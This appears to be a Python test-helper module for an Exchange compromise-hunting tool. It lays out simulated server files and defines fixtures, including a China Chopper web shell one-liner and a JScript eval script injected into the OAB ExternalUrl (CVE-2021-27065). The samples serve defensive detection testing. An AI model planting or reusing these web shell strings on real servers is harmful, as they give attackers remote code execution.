"""Small evidence builders for the file-system hunt tests: a server's files laid out in tmp_path."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

from exhunt.analyzers import HostContext, HuntOptions
from exhunt.analyzers.files import FILE_HUNT
from exhunt.evidence.base import EvidenceFile, FileRef
from exhunt.model import ArtefactKind, Finding, UnitResult

EXCHANGE = r"C:\Program Files\Microsoft\Exchange Server\V15"
OWA_AUTH = EXCHANGE + r"\FrontEnd\HttpProxy\owa\auth"
ECP_AUTH = EXCHANGE + r"\FrontEnd\HttpProxy\ecp\auth"
ASPNET_CLIENT = r"C:\inetpub\wwwroot\aspnet_client"


def server_file(
    root: Path,
    windows_path: str,
    content: bytes,
    *,
    mtime: datetime | None = None,
    kind: ArtefactKind = ArtefactKind.FILE,
    known: bool = True,
) -> EvidenceFile:
    """Write `content` where a disk mirror would hold `windows_path` and describe it as evidence."""
    drive, _, rest = windows_path.partition(":\\")
    rel = f"{drive}/{rest.replace(chr(92), '/')}"
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    return EvidenceFile(FileRef(str(path)), rel, kind, len(content), mtime, windows_path if known else None)


def plain_file(root: Path, name: str, content: bytes, *, mtime: datetime | None = None) -> EvidenceFile:
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    return EvidenceFile(FileRef(str(path)), name, ArtefactKind.FILE, len(content), mtime)


def hunt(file: EvidenceFile, **options: object) -> UnitResult:
    return FILE_HUNT.analyze(file, HostContext("EX01", EXCHANGE + "\\", HuntOptions(**options)))  # type: ignore[arg-type]


def by_rule(result: UnitResult) -> dict[str, Finding]:
    out: dict[str, Finding] = {}
    for f in result.findings:
        assert f.rule_id not in out, f"two findings of {f.rule_id} for one file"
        out[f.rule_id] = f
    return out


# A China Chopper one-liner as published with its client.
CHOPPER = b'<%@ Page Language="Jscript"%><%eval(Request.Item["z9"],"unsafe");%>'

# The property dump Exchange writes on ResetOABVirtualDirectory, after Set-OabVirtualDirectory put
# a script into ExternalUrl (CVE-2021-27065); property names as Get-OabVirtualDirectory lists them.
OAB_SCRIPT = (
    'http://f/<script language="JScript" runat="server">function Page_Load()'
    '{eval(Request["orange"],"unsafe");}</script>'
)
OAB_DUMP_LINES = [
    ("Name", "OAB (Default Web Site)"),
    ("PollInterval", "480"),
    ("OfflineAddressBooks", ""),
    ("RequireSSL", "False"),
    ("BasicAuthentication", "False"),
    ("WindowsAuthentication", "True"),
    ("OAuthAuthentication", "True"),
    ("MetabasePath", "IIS://EX01.corp.example/W3SVC/1/ROOT/OAB"),
    ("Path", EXCHANGE + r"\FrontEnd\HttpProxy\OAB"),
    ("ExtendedProtectionTokenChecking", "None"),
    ("ExtendedProtectionFlags", ""),
    ("ExtendedProtectionSPNList", ""),
    ("AdminDisplayVersion", "Version 15.1 (Build 2106.2)"),
    ("Server", "EX01"),
    ("InternalUrl", "https://ex01.corp.example/OAB"),
    ("InternalAuthenticationMethods", "WindowsIntegrated"),
    ("ExternalUrl", OAB_SCRIPT),
    ("ExternalAuthenticationMethods", "WindowsIntegrated"),
    ("ExchangeVersion", "0.10 (14.0.100.0)"),
    ("DistinguishedName", "CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EX01,CN=Servers,..."),
    ("Identity", "EX01\\OAB (Default Web Site)"),
    ("Guid", "2c4ea4a0-5f0c-4c7e-8b88-3f6f0c1e7a11"),
    ("ObjectCategory", "corp.example/Configuration/Schema/ms-Exch-OAB-Virtual-Directory"),
    ("ObjectClass", "{top, msExchVirtualDirectory, msExchOABVirtualDirectory}"),
    ("WhenChanged", "3/3/2021 4:12:55 AM"),
    ("WhenCreated", "9/2/2020 10:01:07 PM"),
    ("OriginatingServer", "DC01.corp.example"),
    ("IsValid", "True"),
]


def oab_dump(script_value: str | None = None) -> bytes:
    rows = [(k, script_value if (k == "ExternalUrl" and script_value is not None) else v) for k, v in OAB_DUMP_LINES]
    return "\r\n".join(f"{k:<32}: {v}" for k, v in rows).encode()
